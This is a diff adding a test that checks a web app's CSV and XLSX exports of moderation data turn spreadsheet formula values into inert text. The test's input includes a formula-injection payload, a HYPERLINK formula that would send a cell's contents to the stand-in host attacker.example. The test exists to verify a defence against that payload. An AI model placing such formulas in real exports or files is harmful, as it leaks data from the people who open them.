@@ -70,6 +70,38 @@ def test_export_as_csv_and_xlsx(client, mailbox, admin_client):
     assert '\'=HYPERLINK("x")' in organisations  # never a formula
 
 
+FORMULA_NAME = '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")'
+
+
+def test_formula_cells_export_as_inert_text_in_csv_and_xlsx(client, mailbox, admin_client):
+    sign_and_confirm(
+        client,
+        mailbox,
+        name=FORMULA_NAME,
+        organisation="@SUM(1)",
+        position="-1+2",
+        email="formula@example.org",
+    )
+    response = admin_client.get(MODERATION, {"status": "", "format": "csv"})
+    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
+    row = next(row for row in rows if row["email"] == "formula@example.org")
+    assert (row["name"], row["organisation"], row["position"]) == (
+        "'" + FORMULA_NAME,
+        "'@SUM(1)",
+        "'-1+2",
+    )
+    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values())
+
+    response = admin_client.get(MODERATION, {"status": "", "format": "xlsx"})
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    header = [cell.value for cell in next(sheet.iter_rows(max_row=1))]
+    row = next(row for row in sheet.iter_rows(min_row=2) if row[8].value == "formula@example.org")
+    cells = {column: row[header.index(column)] for column in ("name", "organisation", "position")}
+    assert {column: cell.data_type for column, cell in cells.items()} == dict.fromkeys(cells, "s")
+    assert cells["name"].value == "'" + FORMULA_NAME
+    assert cells["organisation"].value == "'@SUM(1)"
+
+
 CSV_HEADER = "category,name,organisation,position,country,email,publish_name\n"
 
 
